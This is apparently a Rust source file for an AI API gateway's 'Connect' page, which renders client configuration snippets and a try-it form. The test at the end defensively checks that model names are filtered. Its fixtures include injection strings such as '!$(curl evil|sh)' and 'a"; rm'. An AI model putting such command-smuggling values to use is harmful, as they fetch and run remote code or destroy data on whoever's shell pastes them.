//! *Connect*: what to type into clients, with this address filled in, and a box that streams an answer.

use maud::{Markup, html};
use serde_json::Value;

use super::parts::{list, text};
use super::words::Language;

/// Models that are offered in the box.
const MODELS_MAX: usize = 200;

/// A client, and what it is given.
struct Client {
    name: &'static str,
    text: String,
}

/// What clients are given for an address such as `http://host:3001`, and a model.
fn clients(base: &str, model: &str) -> Vec<Client> {
    let client = |name, text: String| Client { name, text };
    vec![
        client(
            "OpenAI SDK, Python",
            format!(
                "from openai import OpenAI\n\nclient = OpenAI(base_url=\"{base}/v1\", api_key=\"KEY\")\nanswer = client.chat.completions.create(\n    model=\"{model}\",\n    messages=[{{\"role\": \"user\", \"content\": \"Say hello.\"}}],\n)\nprint(answer.choices[0].message.content)\n"
            ),
        ),
        client(
            "OpenAI SDK, JavaScript",
            format!(
                "import OpenAI from \"openai\";\n\nconst client = new OpenAI({{ baseURL: \"{base}/v1\", apiKey: \"KEY\" }});\nconst answer = await client.chat.completions.create({{\n  model: \"{model}\",\n  messages: [{{ role: \"user\", content: \"Say hello.\" }}],\n}});\nconsole.log(answer.choices[0].message.content);\n"
            ),
        ),
        client(
            "Anthropic SDK, Python",
            format!(
                "from anthropic import Anthropic\n\nclient = Anthropic(base_url=\"{base}\", api_key=\"KEY\")\nanswer = client.messages.create(\n    model=\"{model}\",\n    max_tokens=1024,\n    messages=[{{\"role\": \"user\", \"content\": \"Say hello.\"}}],\n)\nprint(answer.content[0].text)\n"
            ),
        ),
        client(
            "curl",
            format!(
                "curl -N {base}/v1/chat/completions \\\n  -H \"Authorization: Bearer KEY\" -H \"Content-Type: application/json\" \\\n  -d '{{\"model\":\"{model}\",\"stream\":true,\"messages\":[{{\"role\":\"user\",\"content\":\"Say hello.\"}}]}}'\n"
            ),
        ),
        client(
            "Codex",
            format!(
                "# ~/.codex/config.toml; the key is in the variable GATEWAY_KEY\nmodel = \"{model}\"\nmodel_provider = \"gateway\"\n\n[model_providers.gateway]\nname = \"api-together\"\nbase_url = \"{base}/v1\"\nenv_key = \"GATEWAY_KEY\"\n"
            ),
        ),
        client(
            "Claude Code",
            format!(
                "export ANTHROPIC_BASE_URL={base}\nexport ANTHROPIC_AUTH_TOKEN=KEY\nexport ANTHROPIC_MODEL={model}\n"
            ),
        ),
        client(
            "opencode",
            format!(
                "{{\n  \"$schema\": \"https://opencode.ai/config.json\",\n  \"model\": \"gateway/{model}\",\n  \"provider\": {{\n    \"gateway\": {{\n      \"npm\": \"@ai-sdk/openai-compatible\",\n      \"options\": {{ \"baseURL\": \"{base}/v1\", \"apiKey\": \"{{env:GATEWAY_KEY}}\" }},\n      \"models\": {{ \"{model}\": {{}} }}\n    }}\n  }}\n}}\n"
            ),
        ),
        client(
            "Cline",
            format!("cline auth --provider openai-compatible --baseurl {base}/v1 --apikey KEY --modelid {model}\n"),
        ),
        client(
            "Open WebUI",
            format!(
                "docker run -p 3000:8080 \\\n  -e OPENAI_API_BASE_URL={base}/v1 -e OPENAI_API_KEY=KEY \\\n  -v open-webui:/app/backend/data ghcr.io/open-webui/open-webui:main\n"
            ),
        ),
    ]
}

/// True for names that mean nothing to a shell or a file. Endpoints list what they like, and what stands here is pasted.
fn is_plain(name: &str) -> bool {
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._:/@+-".contains(&byte))
}

/// The view as a document. `base` is none where clients have another address than this page.
pub(super) fn document(w: Language, base: Option<&str>, models: &Value) -> Markup {
    let names: Vec<&str> = list(models, "data").iter().map(|model| text(model, "id")).take(MODELS_MAX).collect();
    let model = names.iter().copied().find(|name| is_plain(name)).unwrap_or("MODEL");
    html! {
        h1 { (w.t("Connect")) }
        @match base {
            Some(base) => {
                p { (w.t("Point a client here, with a key of yours in the place of KEY:")) " " code { (base) "/v1" } }
                (try_it(w, &names))
            }
            None => p class="alerts near" { (w.t("Clients have another address than this page: put it in the place of this one.")) }
        }
        @for (place, Client { name, text }) in clients(base.unwrap_or("http://HOST:3001"), model).iter().enumerate() {
            section class="client" aria-labelledby={ "c-" (place) "-t" } {
                h2 id={ "c-" (place) "-t" } { (name) }
                pre id={ "c-" (place) } tabindex="0" { (text) }
                button type="button" class="copy" data-from={ "c-" (place) } { (w.t("Copy")) }
            }
        }
    }
}

fn try_it(w: Language, models: &[&str]) -> Markup {
    html! {
        form class="try" {
            h2 { (w.t("Try it")) }
            label class="field" { span { (w.t("A client's key (it is not kept)")) } input type="password" name="key" autocomplete="off"; }
            label class="field" {
                span { (w.t("Model")) }
                input type="text" name="model" list="models" value=(models.first().copied().unwrap_or_default()) autocomplete="off" spellcheck="false";
            }
            datalist id="models" { @for model in models { option value=(model) {} } }
            label class="field wide" { span { (w.t("Question")) } textarea name="question" rows="2" { (w.t("Say hello.")) } }
            button type="submit" { (w.t("Ask")) }
            output id="answer" role="status" aria-live="polite" {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_pasted_runs_nothing() {
        let models = serde_json::json!({ "data": [{ "id": "!$(curl evil|sh)" }, { "id": "a\"; rm" }, { "id": "meta/llama-3.3:free" }] });
        let page = document(Language::English, Some("http://gateway:3001"), &models).into_string();
        assert!(page.contains("export ANTHROPIC_MODEL=meta/llama-3.3:free"), "{page}");
        assert!(!page.contains("=!$("), "{page}");
    }
}
